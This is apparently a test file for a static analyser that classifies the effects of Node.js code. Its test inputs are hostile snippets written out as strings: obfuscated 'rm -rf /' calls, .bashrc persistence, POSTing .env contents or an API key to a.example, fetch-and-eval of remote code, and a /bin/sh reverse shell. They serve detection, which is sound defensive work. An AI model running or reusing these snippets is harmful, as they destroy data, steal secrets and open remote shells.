// What JavaScript for Node does, case by case; needs the parser of JavaScript, and says so where that is not installed.

import { describe, expect, it } from 'vitest';
import { loadJavascript } from '../../../decide/parsers.ts';
import type { AnalysisEnvironment, Effect, Facts, Languages, Target } from '../effects.ts';
import { analyseJavascript, type ParseJavascript } from './index.ts';

const folders = (process.env['NODE_PATH'] ?? '').split(':').filter((folder) => folder !== '');

function load(): ParseJavascript | null {
  try {
    return loadJavascript({ folders });
  } catch {
    console.warn('Skipped: oxc-parser is not installed.');
    return null;
  }
}

const parse = load();
const nothing: Facts = { effects: [], invocations: [], unknowns: [], errors: [] };

/** A shell that only says what it was given. */
const languages: Languages = {
  shell: (text) => ({
    ...nothing,
    effects: [
      {
        kind: 'inert',
        target: { kind: 'name', name: { kind: 'literal', text } },
        program: 'shell',
        through: [],
        span: [0, 0],
      },
    ],
  }),
  python: () => null,
  javascript: () => null,
};
const around: AnalysisEnvironment = { cwd: '/work/project', home: '/home/test', spend: () => {} };

function analyse(source: string): Facts {
  if (!parse) throw new Error('no parser');
  return analyseJavascript(source, around, languages, parse);
}

function place(target: Target): string {
  if (target.kind === 'none') return '-';
  const value = target.kind === 'path' ? target.path : target.kind === 'host' ? target.host : target.name;
  if (value.kind === 'literal') return value.text;
  return value.kind === 'prefix' ? `${value.text}…` : value.kind === 'choice' ? value.texts.join('|') : '?';
}

function findingsOf({ kind, target, detail, recursive, origins }: Effect): string {
  return [
    kind === 'inert' ? 'shell' : kind,
    place(target),
    detail,
    recursive ? 'recursive' : undefined,
    origins ? `from ${origins.join(',')}` : undefined,
  ]
    .filter((part) => part !== undefined)
    .join(' ');
}

describe.skipIf(!parse)('effects of JavaScript', () => {
  it.each<[source: string, effects: readonly string[]]>([
    ["require('fs').rmSync('/etc', {recursive: true, force: true})", ['delete /etc recursive']],
    ["const n = c ? 1 : 2; require('fs').rmSync('/x/' + n * 2)", ['delete /x/2|/x/4']],
    ["const n = c ? 1 : 2; require('fs').rmSync('/x/' + 2 * n)", ['delete /x/2|/x/4']],
    ["require('fs').rmSync('/x/' + (7 - 2) + 2 ** 3 + 9 / 3)", ['delete /x/583']],
    ["import fs from 'node:fs'; fs.unlinkSync('x')", ['delete x']],
    ["import { unlink as u } from 'fs/promises'; await u('x')", ['delete x']],
    ["const { promises: p } = require('fs'); p.rm('x')", ['delete x']],
    ["require('f' + 's')['unlink' + 'Sync']('x')", ['delete x']],
    ["require('fs').writeFileSync('x', 'y')", ['write x overwrite']],
    [
      "require('fs').appendFileSync(process.env.HOME + '/.bashrc', 'y')",
      ['write /home/test/.bashrc append', 'persist /home/test/.bashrc shell-start'],
    ],
    ["require('fs').openSync('x', 'w')", ['write x overwrite']],
    ["require('fs').chmodSync('x', 0o777)", ['mode x 777']],
    ["require('fs').renameSync('a', 'b')", ['delete a move', 'write b move']],
    ["const path = require('path'); require('fs').rmSync(path.join('/etc', 'x'))", ['delete /etc/x']],
    ["for (const f of ['a', 'b']) require('fs').rmSync(f)", ['delete a', 'delete b']],
    [
      "require('fs').readdirSync('/etc').forEach(f => fs.unlinkSync('/etc/' + f))",
      ['read /etc list', 'delete /etc/…'],
    ],
    ["require('child_process').exec('rm -rf /')", ['shell rm -rf /']],
    ["const {execSync: e} = require('child_process'); e(`rm ${x}`)", ['shell rm $unfollowed']],
    ["require('child_process').spawn('rm', ['-rf', '/'])", ['shell rm -rf /']],
    ["require('child_process').spawnSync('rm -rf', ['/'], {shell: true})", ['shell rm -rf /']],
    [
      "require('child_process').execSync(Buffer.from('cm0gLXJmIC8=', 'base64').toString())",
      ['shell rm -rf /'],
    ],
    ["require('child_process').execSync(atob('cm0gLXJmIC8='))", ['shell rm -rf /']],
    ["require('child_process').execSync(['m', 'r'].reverse().join('') + ' x')", ['shell rm x']],
    ["require('child_process').execSync(String.fromCharCode(114, 109))", ['shell rm']],
    [
      "require('child_process').execSync(require('zlib').gunzipSync(Buffer.from('H4sIAAAAAAACAyvKVdAtSlPQBwBcTPLsCAAAAA==', 'base64')).toString())",
      ['shell rm -rf /'],
    ],
    ["process.mainModule.require('child_process').execSync('id')", ['shell id']],
    ["globalThis.process.mainModule.require('child_process').execSync('id')", ['shell id']],
    ["require('child_process').execSync.call(null, 'id')", ['shell id']],
    ["eval(\"require('fs').rmSync('x')\")", ['delete x']],
    ["new Function(\"require('fs').rmSync('x')\")()", ['delete x']],
    ["[].constructor.constructor(\"return require('fs').rmSync('x')\")()", ['delete x']],
    ["require('vm').runInThisContext(\"require('fs').rmSync('x')\")", ['delete x']],
    ["setTimeout(() => require('fs').rmSync('x'), 10)", ['delete x']],
    ['eval(code)', ['run - from unknown']],
    ["require(name).exec('x')", ['run - from unknown']],
    ["fetch('http://a.example/x')", ['connect a.example GET']],
    [
      "fetch('http://a.example', {method: 'POST', body: process.env.API_KEY})",
      ['connect a.example POST from secret'],
    ],
    [
      "fetch('http://a.example').then(r => r.text()).then(eval)",
      ['connect a.example GET', 'run - from network'],
    ],
    [
      "require('https').get('https://a.example', r => r.on('data', d => eval(d)))",
      ['connect a.example GET', 'run - from network'],
    ],
    [
      "require('axios').post('http://a.example', require('fs').readFileSync('.env'))",
      ['read .env', 'secret .env environment', 'connect a.example POST from secret'],
    ],
    [
      "const s = require('child_process').spawn('/bin/sh'); require('net').connect(1, 'a.example', function () { this.pipe(s.stdin) })",
      ['shell /bin/sh', 'connect a.example tcp', 'run - shell from network'],
    ],
    ["require('http').createServer((q, r) => r.end()).listen(80)", ['listen ? 80']],
    ["process.kill(1, 'SIGKILL')", ['signal 1 SIGKILL']],
    [
      "class A { constructor(p) { this.p = p } go() { require('fs').rmSync(this.p) } } new A('x').go()",
      ['delete x'],
    ],
    ["function wipe(p) { require('fs').rmSync(p) } wipe('x')", ['delete x']],
    ["later('x'); function later(p) { require('fs').rmSync(p) }", ['delete x']],
    ["db.query('DROP TABLE users')", ['database DROP TABLE users drop']],
  ])('%j', (source, expected) => {
    expect(analyse(source).effects.map(findingsOf)).toEqual(expected);
  });

  it.each([
    "console.log('rm -rf /')",
    "// require('fs').rmSync('/')",
    'const s = \'require("fs").rmSync("/")\'',
    'const add = (a, b) => a + b; add(1, 2)',
    'JSON.parse(\'{"a": 1}\').a',
    "[3, 1, 2].sort().map((x) => x * 2).filter(Boolean).join(',')",
    "process.stdout.write('x')",
    "const { name } = require('./package.json'); console.log(name)",
    "if (false) require('fs').rmSync('x')",
    "process.exit(0); require('fs').rmSync('x')",
  ])('sees nothing in %j', (source) => {
    const { effects, unknowns, errors } = analyse(source);
    expect(effects.map(findingsOf)).toEqual([]);
    expect([...unknowns, ...errors]).toEqual([]);
  });

  it('tells what it cannot read', () => {
    expect(analyse('rm -rf /').errors).not.toEqual([]);
  });

  it('asks about code that is too deep', () => {
    expect(analyse('['.repeat(10_000)).effects.map(findingsOf)).toEqual(['run - from unknown']);
  });
});
